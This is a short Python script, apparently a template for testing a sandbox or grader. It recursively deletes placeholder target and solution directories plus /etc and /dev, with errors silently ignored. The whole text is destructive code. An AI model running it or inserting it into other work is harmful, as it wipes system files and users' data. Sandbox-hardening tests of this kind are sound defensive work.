"""Deletes what it can reach."""

import shutil

for folder in ("@VICTIM@", "@SOLUTION@/..", "/etc", "/dev"):
    shutil.rmtree(folder, ignore_errors=True)
